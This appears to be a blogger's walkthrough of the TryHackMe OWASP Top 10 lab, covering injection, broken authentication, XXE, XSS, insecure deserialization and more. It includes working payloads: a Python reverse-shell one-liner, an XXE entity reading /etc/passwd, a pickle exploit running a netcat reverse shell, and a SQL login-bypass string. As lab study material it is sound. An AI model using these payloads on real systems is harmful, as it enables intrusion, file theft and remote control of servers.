OWASP TOP 10 - tryhackme

go back / p4p1

Created on Wed. 20 jan 2021

This write-up will be a bit different I need to practice my knowledge of the OWASP TOP 10 and my objective is to go as much detail as I can on each vulnerability so that I learn them more effectively. I will provide all the answers for the TryHackMe but with as much context as possible so you might have to dig a bit for the answers.

Vulnerability 1: Injections

Injections are the most basic kind of vulnerability. Let's say you have an input processed by a function or executed by an external entity like for example SQL. So in our hypothetical world you have a search system on your website/blog or whatever and you want to search for something inyour database. An attacker would come along and instead of using the search bar to search something basic the attacker would put some SQL code inside of that search box and instead or returning the search result it would return the entire database, not cool :) The main defense in most injection attack is by either not using the under lining technology so in our example not use SQL not very useful or use some kind of black list or white list to allow or refuse certain inputs.

The first example provided inside of the room is Command Injection, you will not find this vulnerability in the wild most real Command Injection vulnerability are exploited through a remote code injection vulnerability. I might talk about those an other day.

Inside the task description the author tells us to navigate to the page evilshell.php on this page we can enter different commands and those will help us answer the different questions.

            $ ls
            css/ drpepper.txt evilshell.php index.php js/

From this shell we can go a bit further by observing how does the different php scripts and see if there are vulnerabilities that we can find. You can use the following command to get a reverse shell on the machine:python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("IP_HERE",PORT_HERE));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

I love seeing how the developer potentially messedup inside of the source code. If you inspect index.php here is where most of the coolstuff is located in.

In red we can see the vulnerable part of the code the text the users inputs goes inside of the command on line 25 and then gets executed on line 27. Using that we could create our own exploit for this machine instead of using evilshell.php. Just using the same command as before but adding a ; before it we get a reverse shell on the machine.

Vulnerability 2: Broken Authentication

For this vulnerability we are simply exploiting the authentication system. If we have for in example a user admin and we try to register " admin" note the space before the name it is technically a different username because of the extra space but during authentication the program doesn't take the space into account and we could login as admin. Note that this example does not apply everywhere and is just a showcase of what could possibly be a broken authentication.

In our example we have to impersonate the user darren, when we try to register just darren we get and error:But if we try to login with " darren" or space darren we are able to login with our password but on his account.Vulnerability 3: Sensitive Data Exposure

A big part of being a Cyber Security Researcher is searching for information ( or reconnaissance) on google, either on google or directly on the target. There is an entire area of research called OSINT that people specialize in researching sensitive data online. Some times you might even combine the two by researching online sensitive data you have found on a server. Hashed password or such.

In the exercise we are given a website to attack, we can start by doing some active reconnaissance using a tool like gobuster for example

            #[p4p1@p4p1_XPS15 p4p1/]$ gobuster dir --url --wordlist /opt/wordlists/small.txtGobuster v3.0.1
            by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
            [+] Url:
            [+] Threads:        10
            [+] Wordlist:       /opt/wordlists/small.txt
            [+] Status codes:   200,204,301,302,307,401,403
            [+] User Agent:     gobuster/3.0.1
            [+] Timeout:        10s
            2021/01/21 15:58:24 Starting gobuster
            /api (Status: 301)
            /assets (Status: 301)
            /console (Status: 301)
            /login (Status: 301)
            2021/01/21 15:58:26 FinishedLooking at the output of the command we can see a /assets we might be able to use that to our leverage.

Here we can see a file called webapp.db obviously this should not be there and we can use this to our advantage. To view the content of the file we can use a database viewer like sqlitebrowser.

Here we can see a hashed password in the password field that is pretty useless for us but we can use the wonders of the internet to find it. Using a website called crackstation we can find the plain text password:

Vulnerability 4: XML External Entity

This vulnerability is not my favorite because I really struggle with XML. In fact this was one of the first vulnerability I ever exploited when I was 15yo on this challenge website named hackthis.co.uk. I struggled sohard with it, it took me around 2 weeks to break it and since then I always had a bad relationship with XML.

XML External Entity or XXE is avulnerability that uses features from the XML parser that weren't intended by the developer you can imagine it as a huge flex on the intelligence of the developer by using features he didn't block from the user. There are two types of XXE, In-band and Out-of-Band XXEs the only difference in those two, is that the first one you receive the answer from the payload immediately and the second one is considered blind.

For this challenge we will have the website that takes in an XML entry and then runs it through a parser. We will enter some malicious XML to hopefully exploit the server.

            <!DOCTYPE replace [<!ENTITY name "feast"> ]>

The creator provided us with the code above lets try to dissect it on our own to figure out what it does. We first define a variable name with thevalue "feast" we then do a call back to that variable inside of our test code on line 4. When we run this code we see the string falcon feast popup on out screen

From that we can edit the code to get more important valuableinformation from the machine. Instead of giving name a constant value we can give it the content of a file for example /etc/passwd

            <!DOCTYPE replace [<!ENTITY name SYSTEM 'file:///etc/passwd'> ]>

We are then able to retrieve the content of /etc/passwd.

Vulnerability 5: Broken Access Control

Broken access control can happen in a lot of different scenarios and are very straight forward to spot. I have done a blog post about broken access control and IDORs on this blog. The challenge here is a lot simpler that what I showcased in my other blog post. The post in question is linkedto the right.

In this exercise when we login to the website we see a note system where you give a note number in the url and see the content of the note inside of the body of the page. What if we change the note number we could hopefully other peoples notes. And that is how exactly this exploit works :).

Vulnerability 6: Security Misconfiguration

This vulnerability is very straight forward and ties in a lot with the third vulnerability. You will have a lot of services with default user names and passwords you can find those default credentials in many wordlist and sometimes just with a simple google search.

By researching the name of the website and default credentials I was able to find the github of the project and it's default credentials. With the github we could even dig a little deeper and try to find vulnerabilities inside of the source code of the app.

Vulnerability 7: Cross Site Scripting

Haaa possibly my favourite vulnerability of the bunch, XSS is so fun to exploit there are so many possibilities with this exploit and you can end up doing so many things with a victim browser. Fromkeylogging to creating a network scanner, XSS is so fun :).

In this challenge we focus on the three main types of XSS, reflected, stored and DOM XSS. There are plenty of guides explaining those online so I wont waste my time explaining them to you and I believe that the tutorials that already exists are a lot better at explaining this than I am.

When you create an account you get logged in to the challenge and there are two main tabs to look at. The first reflected and then stored XSS. Let's have bit of fun with those. Inside of reflective XSS tab we see a search bar. We can start testing for XSS by typing in HTML inside of the search bar.

From there seeing that it works we can start injecting a ton of HTML payloads from javascript to css defacing the webpage.

Inside of the second tab or Stored XSS we are provided some kind of forum where we can type in comments on the page and those are stored and sent to all of the other users to mess around with. Here we can try to mess a bit more with our input and put some HTML inside of the comment section.

Vulnerability 8: Insecure Deserialization

Insecure Deserialization is the vulnerability I am the least common with in the list but I have the most practice with it seems a bit counterintuitive and it is. Basically Insecure Deserialization is when a service runs a piece of code that is not secure and can be edited by the end user. In computers we talk about Serialization in computers when we take some data transform it in some way and send it to other computers on a network for example. When we take some source code and compile it to binary it is also called serialization.

For this challenge we have to create an account on their website and start by inspecting the cookies we can see on the right I have the cookies stored by the application. What seems pretty apparent is that the cookie userType has a value user and we could just simply change it's value to admin to gain access to the admin panel.

The second part of this challenge was very confusing to me at first but with a bit of research on the pickle library I have found a lot of valuable information that can help in understanding how this works. Because the back end of the server is using python as programming language and uses python data schemes inside of the cookieswe are able to extract it and change it to whatever we want. To view this you can take the content of the cookie sessionId and run it through this basic python script:

          #!/usr/bin/env python
          # -*- coding: utf-8 -*-
          # Made by papi
          # Created on: Fri 22 Jan 2021 11:40:12 PM CET
          # deserialize.py
          # Description:

          import pickle
          import base64

          string = "gAN9cQAoWAkAAABzZXNzaW9uSWRxAVggAAAANmJiMzZkODRkMDE5NDRiNWI4MWFkMTQyYTdiNmEyM2FxAlgLAAAAZW5jb2RlZGZsYWdxA1gYAAAAVEhNe2dvb2Rfb2xkX2Jhc2U2NF9odWh9cQR1Lg=="
          picklefile = open('/tmp/file', 'wb')

          picklefile = open('/tmp/file', 'rb')
          data = pickle.load(picklefile)


Knowing this we could potentially serialize any bit of python code and place it inside of the sessionId cookie for the server to run.

          import pickle
          import sys
          import base64

          command = 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | ' '/bin/sh -i 2>&1 | netcat 1234 > /tmp/f'class rce(object):
              def __reduce__(self):
                  import os
                  return (os.system,(command,))



Just run the following code and place the base64 inside of the cookie and you will have a reverse shell on the server.

Vulnerability 9: Known Vulnerabilities

This one is a sad sight to see on the OWASP top 10 but it isn't surprising most vulnerabilities are disclosed online on website such as exploit-db and can be downloaded and ran by anyone on any services. For example is we search the name of the CMS given to us on exploit-db we can find multiple vulnerabilities:

If we try to use for example the Authentication Bypass CVE we can login as admin on the page with just the following payload:

            username: admin
            password: %' or '1'='1

Vulnerability 10: Insufficient Logging and Monitoring

I will not be doing a demonstration for this vulnerability because it is pretty self explanatory. If you do not log as much traffic as possible you will not be able to see if someone is exploiting your server or not.

Thank you for reading, check out my other write-ups here or some ofmy personal project I am currently working onhere.

My tryhackme account
tryhackmegithub badge

A github workflow to add your tryhackme stats to your github profile.

store | How it was build | repoQuestions / Feedback
For any questions or feedback you can contact me on LinkedIn or twitter / X. I also use twitter as a platform to update on new posts!sponsor me image

If you like the content ofmy website you can helpme out by donating through mygithub sponsors page.